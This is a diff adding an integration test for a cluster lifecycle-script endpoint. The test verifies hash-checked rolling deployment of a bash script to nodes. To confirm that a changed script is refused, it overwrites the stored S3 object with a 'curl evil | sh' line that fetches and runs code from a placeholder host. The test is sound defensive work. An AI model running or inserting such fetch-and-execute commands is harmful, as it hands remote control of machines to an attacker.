@@ -152,3 +152,42 @@ def test_a_percentage_rollout_without_alarm_completes_with_every_nodes_release(
     assert report["outcome"] == "completed" and report["groups"] == {group: "Succeeded"}, report
     assert set(report["nodes"].values()) == {"2026.01.15"} and len(report["nodes"]) == 6
     assert [b["state"] for b in view["stages"][1]["outputs"]["batches"]] == ["updated", "updated"]
+
+
+def test_a_new_lifecycle_script_rolls_through_the_nodes_and_is_the_one_verified_from_then_on(
+    shared_cp: Running, twin_process: TwinProcess
+) -> None:
+    import hashlib
+
+    sm, s3 = twin_client(twin_process, "sagemaker"), twin_client(twin_process, "s3")
+    group = sm.describe_cluster(ClusterName=CLUSTER)["InstanceGroups"][0]["InstanceGroupName"]
+    script = "#!/bin/bash\nset -euo pipefail\necho lifecycle v2\n"
+    body = {"instanceGroupName": group, "script": script, "apply": "rolling",
+            "deploymentConfig": {"rollingUpdatePolicy": {"maximumBatchSize": {"type": "INSTANCE_COUNT", "value": 3}}}}
+    with shared_cp.client() as client:
+        refused = client.post("/api/v1/capacity/lifecycle-script", json={**body, "apply": "newNodes"})
+        assert refused.status_code == 422 and "deploymentConfig" in refused.text, refused.text
+        ref = client.post("/api/v1/capacity/lifecycle-script", json=body)
+        assert ref.status_code == 202, ref.text
+    view = mcp_wait(shared_cp, ref.json()["operationId"])
+    assert view["status"] == "SUCCEEDED", view
+    upload = view["stages"][0]["outputs"]
+    assert upload["sha256"] == hashlib.sha256(script.encode()).hexdigest()
+    stored = s3.get_object(Bucket=upload["bucket"], Key=upload["key"])["Body"].read()
+    assert stored == script.encode() and upload["key"].endswith("/on_create.sh")
+    described = sm.describe_cluster(ClusterName=CLUSTER)["InstanceGroups"][0]
+    assert described["LifeCycleConfig"]["SourceS3Uri"] == upload["sourceS3Uri"]
+    assert view["stages"][-1]["outputs"]["outcome"] == "completed"
+    events = [e["Description"] for e in sm.list_cluster_events(ClusterName=CLUSTER, MaxResults=100)["Events"]]
+    ran = {e.rsplit(" ", 1)[1] for e in events if e.startswith(f"Lifecycle script {upload['sourceS3Uri']}")}
+    assert ran == set(nodes(sm)), events  # every node ran the new script once it was rolled
+
+    # From now on the recorded hash is the one checked: a replacement runs it; a changed object is refused.
+    some = sorted(nodes(sm))[0]
+    [replaced] = mcp_calls(shared_cp, [("hyperpod_node_replace", {"nodeId": some})])
+    assert mcp_wait(shared_cp, replaced["operationId"])["status"] == "SUCCEEDED"
+    s3.put_object(Bucket=upload["bucket"], Key=upload["key"], Body=b"#!/bin/bash\ncurl evil | sh\n")
+    with shared_cp.client() as client:
+        again = client.post("/api/v1/capacity/nodes/replace", json={"nodeId": sorted(nodes(sm))[0]})
+    assert again.status_code == 409 and upload["sha256"] in again.text, again.text
+    assert "hyperpod_update_lifecycle_script" in again.json()["error"]["hint"]
